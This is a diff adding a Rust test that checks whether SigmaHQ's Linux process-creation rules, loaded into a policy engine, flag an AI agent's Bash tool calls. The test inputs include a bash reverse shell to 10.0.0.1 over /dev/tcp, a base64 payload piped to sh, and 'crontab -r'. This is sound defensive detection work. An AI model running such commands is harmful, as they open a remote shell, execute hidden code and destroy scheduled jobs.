@@ -1,0 +1,69 @@
+//! SigmaHQ's own Linux process-creation rules (read in place from
+//! `../shared/conformance/sigma/rules`, DRL licence) run unchanged against
+//! agents' shell commands through the shipped field mappings, and every
+//! match names the rule's author.
+
+#![cfg(unix)]
+
+use parallax::loader;
+use parallax_runtime::{Event, PreparedEvent, Report};
+use serde_json::json;
+use std::path::PathBuf;
+use std::time::Duration;
+
+fn corpus_dir() -> PathBuf {
+    let d = PathBuf::from(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../shared/conformance/sigma/rules/rules/linux/process_creation"
+    ));
+    assert!(
+        d.is_dir(),
+        "the SigmaHQ corpus is missing: expected {} (shared/ beside the repository)",
+        d.display()
+    );
+    d
+}
+
+#[test]
+fn linux_process_creation_rules_fire_on_agent_commands() {
+    let dir = std::env::temp_dir().join(format!("parallax-sigmahq-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(dir.join("rules")).unwrap();
+    std::os::unix::fs::symlink(corpus_dir(), dir.join("rules/sigma")).unwrap();
+    std::fs::write(dir.join("parallax.yaml"), "rules_dir: rules\n").unwrap();
+    let engine = loader::dynamic_engine(&dir.join("parallax.yaml")).expect("SigmaHQ rules compile");
+    let _ = std::fs::remove_dir_all(&dir);
+    assert!(engine.program().rules.len() > 100);
+
+    let eval = |command: &str| {
+        let event = json!({"stage": "tool.before", "tool_name": "Bash",
+                           "tool_args": {"command": command}});
+        let prepared = PreparedEvent::new(Event::from_value(event).unwrap());
+        let mut scratch = engine.new_scratch();
+        let v = engine.evaluate(&prepared, &mut scratch);
+        Report::build(&engine, &prepared, &v, Duration::ZERO)
+    };
+    for (command, title) in [
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "Bash Interactive Shell",
+        ),
+        (
+            "echo cGF5bG9hZA== | base64 -d | sh",
+            "Linux Base64 Encoded Pipe to Shell",
+        ),
+        ("crontab -r", "Remove Scheduled Cron Task/Job"),
+    ] {
+        let r = eval(command);
+        let hit = r.results.iter().find(|x| x.title == title);
+        let Some(hit) = hit else {
+            panic!("`{title}` did not fire on `{command}`: {:?}", r.results);
+        };
+        assert!(
+            hit.author.as_deref().is_some_and(|a| !a.is_empty()),
+            "a SigmaHQ match must carry its author (DRL)"
+        );
+        assert_eq!(hit.action.as_str(), "detect");
+    }
+    assert!(eval("ls -la && cargo build").results.is_empty());
+}
